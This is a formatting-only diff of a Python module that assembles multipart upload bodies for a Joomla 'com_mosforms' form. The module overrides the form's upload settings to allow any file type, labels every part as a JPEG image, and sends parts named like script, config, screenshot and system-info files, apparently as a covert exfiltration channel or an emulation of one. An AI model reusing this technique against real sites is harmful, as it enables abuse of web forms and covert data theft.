@@ -6,13 +6,33 @@ FORM_PATH = "/index.php?option=com_mosforms"
 CONFIRMATION = b"Data has uploaded successfully"
 
 # In the order in which they are sent.
-PARTS = ("Conversion_Script", "Conversion_Config", "File_for_conversion", "Conversion_log", "Screen_copy",
-         "System_info")
+PARTS = (
+    "Conversion_Script",
+    "Conversion_Config",
+    "File_for_conversion",
+    "Conversion_log",
+    "Screen_copy",
+    "System_info",
+)
 
-_SETTINGS = ((b"ul_max_file_size", b"20480"), (b"ul_directory", b"\nuploadfiles"), (b"ul_file_types", b"*,*,"),
-             (b"ul_file_increment", b"0"), (b"ul_email_file", b"0"))
-_FORM = ((b"tableid", b""), (b"mosform", b"3"), (b"rowid", b""), (b"Itemid", b"113"), (b"act", b"processform"),
-         (b"option", b"com_mosforms"), (b"form_id", b"3"), (b"Submit", b"Sumbit"), (b"mosform", b"3"))
+_SETTINGS = (
+    (b"ul_max_file_size", b"20480"),
+    (b"ul_directory", b"\nuploadfiles"),
+    (b"ul_file_types", b"*,*,"),
+    (b"ul_file_increment", b"0"),
+    (b"ul_email_file", b"0"),
+)
+_FORM = (
+    (b"tableid", b""),
+    (b"mosform", b"3"),
+    (b"rowid", b""),
+    (b"Itemid", b"113"),
+    (b"act", b"processform"),
+    (b"option", b"com_mosforms"),
+    (b"form_id", b"3"),
+    (b"Submit", b"Sumbit"),
+    (b"mosform", b"3"),
+)
 
 
 def upload_body(files):
@@ -23,8 +43,19 @@ def upload_body(files):
         name = part.encode()
         pieces.append(b"\n")
         pieces += [_field(b"%s[%s]" % (name, key)) + b"\n\n" + value + b"\n" for key, value in _SETTINGS]
-        pieces += [_field(name), b'; filename="', path, b'"\n', b"Content-type: image/pjpeg\n",
-                   b"Content-Transfer-Encoding: binary\n", b"\n", content, b"\n\n--", BOUNDARY, b"--\n"]
+        pieces += [
+            _field(name),
+            b'; filename="',
+            path,
+            b'"\n',
+            b"Content-type: image/pjpeg\n",
+            b"Content-Transfer-Encoding: binary\n",
+            b"\n",
+            content,
+            b"\n\n--",
+            BOUNDARY,
+            b"--\n",
+        ]
     pieces += [_field(key) + b"\n\n" + value + b"\n" for key, value in _FORM]
     pieces += [b"--", BOUNDARY, b"\n"]
     return b"".join(pieces)
